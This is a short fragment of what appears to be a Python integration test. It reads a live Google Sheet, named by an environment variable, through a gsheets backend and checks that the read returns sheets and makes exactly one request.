    """Opt-in, real Google: the sheet in SHEETS_OKR_LIVE_SHEET is read with one request."""
    backend = gsheets.GoogleSheet(os.environ["SHEETS_OKR_LIVE_SHEET"])
    grid = backend.read()
    assert grid.sheets
    assert backend.requests_made == 1
